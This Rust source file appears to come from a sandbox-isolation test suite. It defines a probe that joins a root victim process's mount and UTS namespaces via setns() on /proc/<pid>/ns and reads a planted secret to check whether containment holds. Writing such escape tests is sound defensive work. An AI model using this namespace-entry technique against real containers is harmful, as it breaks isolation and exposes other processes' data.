//! setns-outside: join an outside process's mount and UTS namespaces through `/proc/<pid>/ns`.

use crate::kit::{judge_secret, with_args, wrong_state};
use crate::world::{Planted, Victim, VictimKind, VictimOptions, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use nix::fcntl::{open, OFlag};
use nix::sched::{setns, CloneFlags};
use nix::sys::stat::Mode;
use std::os::fd::{FromRawFd, OwnedFd};

pub struct SetnsOutside;

static META: ProbeMeta = ProbeMeta {
    id: "setns-outside",
    title: "join an outside process's namespaces with setns",
    technique: "The payload opens /proc/<pid>/ns/mnt and /proc/<pid>/ns/uts of a root victim \
        outside the sandbox and calls setns() on them, the way `nsenter` enters a container \
        from the host. The victim holds a private mount namespace with a tmpfs carrying a \
        secret file, and a private UTS namespace whose hostname carries the secret, so the \
        secret is visible only from inside those namespaces. setns needs CAP_SYS_ADMIN in the \
        namespace's owning user namespace and the victim's /proc entry.",
    oracle: "The per-attempt secret (present only in the victim's own mount and UTS namespaces) \
        appears in the payload's report.",
    layers: &[
        Layer::PidNs,
        Layer::Caps,
        Layer::UserNs,
        Layer::Uid,
        Layer::Seccomp,
        Layer::Landlock,
    ],
    references: &["ctrsploit", "nsenter(1)", "setns(2)"],
    class: ProbeClass::Plain,
};

struct State {
    secret: String,
    victim: Victim,
    _dir: Planted,
}

fn open_ns(steps: &mut Steps, pid: i32, ns: &str) -> Option<OwnedFd> {
    let path = format!("/proc/{pid}/ns/{ns}");
    let fd = steps.call(
        "open the victim's namespace",
        format!("open({path}, O_RDONLY)"),
        || {
            open(
                path.as_str(),
                OFlag::O_RDONLY | OFlag::O_CLOEXEC,
                Mode::empty(),
            )
        },
    )?;
    // SAFETY: `open` just returned this descriptor and nothing else owns it.
    Some(unsafe { OwnedFd::from_raw_fd(fd) })
}

impl Probe for SetnsOutside {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let secret = world.fresh_secret().map_err(ProbeError::world(META.id))?;
        let dir = world
            .scratch_dir("setns-mnt")
            .map_err(ProbeError::world(META.id))?;
        let options = VictimOptions {
            ns_holder: Some(dir.path().to_path_buf()),
        };
        let victim = world
            .spawn_victim(VictimKind::Root, &secret, &options)
            .map_err(ProbeError::world(META.id))?;
        let args = vec![
            kv("pid", victim.pid()),
            kv("file", dir.path().join("secret").display()),
        ];
        Ok(Arrangement::new(
            args,
            State {
                secret,
                victim,
                _dir: dir,
            },
        ))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        with_args(META.id, args, |args, steps| {
            let pid: i32 = args.get("pid")?;
            let file = args.str("file")?;
            // UTS first: joining the mount namespace changes what /proc/<pid> means.
            if let Some(fd) = open_ns(steps, pid, "uts") {
                if steps
                    .call(
                        "join the victim's UTS namespace",
                        "setns(uts, CLONE_NEWUTS)",
                        || setns(&fd, CloneFlags::CLONE_NEWUTS),
                    )
                    .is_some()
                {
                    let name = steps.call("read the hostname there", "uname()", || {
                        nix::sys::utsname::uname()
                            .map(|u| u.nodename().to_string_lossy().into_owned())
                    });
                    if let Some(name) = name {
                        steps.data(name);
                    }
                }
            }
            if let Some(fd) = open_ns(steps, pid, "mnt") {
                if steps
                    .call(
                        "join the victim's mount namespace",
                        "setns(mnt, CLONE_NEWNS)",
                        || setns(&fd, CloneFlags::CLONE_NEWNS),
                    )
                    .is_some()
                {
                    let content = steps.io(
                        "read the file only that namespace has",
                        format!("open+read({file})"),
                        || std::fs::read(file),
                    );
                    if let Some(bytes) = content {
                        steps.data(String::from_utf8_lossy(&bytes).into_owned());
                    }
                }
            }
            Ok(())
        })
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        let Ok(state) = arrangement.state.downcast::<State>() else {
            return wrong_state(META.id);
        };
        let what = format!("namespaces of root victim pid {}", state.victim.pid());
        judge_secret(run, &state.secret, &what)
    }
}
